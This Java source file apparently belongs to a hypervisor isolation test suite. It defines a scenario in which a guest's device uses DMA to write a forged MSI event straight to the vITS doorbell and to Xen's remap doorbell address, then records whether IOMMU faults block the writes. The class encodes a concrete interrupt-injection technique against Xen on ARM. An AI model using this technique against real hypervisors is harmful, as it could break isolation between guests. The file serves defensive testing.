package org.trapdoor.attack;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.trapdoor.api.attack.AttackResult;
import org.trapdoor.api.attack.Evidence;
import org.trapdoor.api.dt.DtNode;

/**
 * (b) The attacker programs its device's DMA engine to write a forged MSI payload straight at
 * every doorbell page it can name: the virtual ITS's GITS_TRANSLATER from its own tree, and the
 * IPA where Xen's guest layout puts the real doorbell for trap-remap. No MSI capability is
 * involved, so Xen's trapping of MSI address and data never sees it.
 */
final class DoorbellDma extends Scenario {
    /** Xen's guest layout (public in its sources): the host GITS_TRANSLATER page trap-remap maps at 0x04050000. */
    static final long XEN_REMAP_DOORBELL = 0x0405_0000L + 0x40;
    /** GITS_TRANSLATER's offset in an ITS frame. */
    static final long GITS_TRANSLATER = 0x1_0040L;
    /**
     * An EventID no device of the attacker may use: beyond the events Xen maps per device (at least
     * 32, rounded up to a power of two). Under {@code vits} any event below that is the guest's to
     * MAPTI, so Xen's sanitiser rightly forwards it; this one it must refuse.
     */
    static final int FORGED_EVENT = 0xffff;

    DoorbellDma(Platform p) {
        super(p);
    }

    @Override
    public String name() {
        return "doorbell-dma";
    }

    @Override
    public String description() {
        return "DMA a forged MSI payload (EventID 0x" + Integer.toHexString(FORGED_EVENT) + ") from its device straight to each doorbell IPA it can name";
    }

    @Override
    public String criterion() {
        return "SUCCEEDED if the machine's MSI ledger counts a write at an MSI controller or Xen takes a physical "
                + "interrupt from the DMA; BLOCKED if it faulted in the IOMMU (Xen's DMA fault count, the device's DMA_FAILED)";
    }

    @Override
    AttackResult attack(Attacker a) {
        Map<String, Long> doorbells = new LinkedHashMap<>();
        DtNode its = a.node("arm,gic-v3-its");
        if (its != null && !its.reg().isEmpty()) {
            doorbells.put("vITS doorbell", its.reg().get(0).address() + GITS_TRANSLATER);
        }
        doorbells.put("Xen's remap doorbell", XEN_REMAP_DOORBELL);
        List<Evidence> evidence = new ArrayList<>();
        List<String> reached = new ArrayList<>();
        for (Map.Entry<String, Long> db : doorbells.entrySet()) {
            String at = db.getKey() + " 0x" + Long.toHexString(db.getValue()) + ": ";
            Readings r = new Readings()
                    .add(at + "writes at an MSI controller (machine ledger)", this::reachedController)
                    .add(at + "DMA faults at stage 2 (Xen, attacker's domain)", a.domain::dmaFaults)
                    .add(at + "physical interrupts taken (Xen ledger)", () -> xenLedger().fired())
                    .add(at + "DMA completed (device)", () -> a.reg(Endpoint.REG_DMA_DONE))
                    .add(at + "DMA failed (device)", () -> a.reg(Endpoint.REG_DMA_FAILED))
                    .before();
            a.dmaWrite32(db.getValue(), FORGED_EVENT);
            Settle.quiet(r.sources());
            List<Evidence> e = r.after();
            evidence.addAll(e);
            if (e.get(0).delta() > 0 || e.get(2).delta() > 0) {
                reached.add(db.getKey());
            }
        }
        return result(a, !reached.isEmpty(), reached.isEmpty()
                ? "every forged doorbell write was stopped before an MSI controller"
                : "the forged write reached the interrupt controller through: " + String.join(", ", reached), evidence);
    }
}
